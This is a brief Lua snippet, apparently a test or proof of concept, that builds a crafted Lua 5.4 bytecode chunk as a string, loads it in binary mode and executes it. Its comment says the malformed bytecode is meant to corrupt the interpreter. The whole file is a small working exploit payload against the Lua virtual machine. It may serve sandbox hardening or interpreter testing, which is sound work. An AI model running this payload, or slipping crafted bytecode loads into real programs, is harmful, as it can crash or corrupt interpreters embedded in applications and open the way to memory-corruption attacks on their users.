-- Attack: load a binary chunk (a Lua 5.4 header followed by crafted
-- instructions) from a string: malformed bytecode can corrupt the interpreter.
local evil = "\27LuaT\0\25\147\r\n\26\n\4\8\8\120\86\0\0\0\0\0\0\0\0\0\0\0\40\119\64\1\255\255\255\255"
local chunk = load(evil, "=evil", "b")
chunk()
